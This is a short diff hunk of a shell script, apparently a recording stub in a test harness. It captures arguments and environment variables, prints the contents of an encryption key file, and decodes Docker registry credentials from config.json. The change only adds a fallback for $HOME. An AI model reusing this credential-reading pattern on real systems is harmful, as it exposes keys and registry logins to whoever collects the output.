@@ -27,7 +27,7 @@ printf '%s\n' "$@" > "$d/argv"
   done < <(env -0)
   kf=${KPROV_STATE_ENCRYPTION_KEY_FILE:-}
   [ -n "$kf" ] && [ -f "$kf" ] && { head -c 4096 "$kf"; echo; }
-  cfg=${DOCKER_CONFIG:-$HOME/.docker}/config.json
+  cfg=${DOCKER_CONFIG:-${HOME:-/nonexistent}/.docker}/config.json
   [ -f "$cfg" ] && python3 - "$cfg" <<'PY' 2>/dev/null
 import base64, json, sys
 for v in json.load(open(sys.argv[1])).get("auths", {}).values():
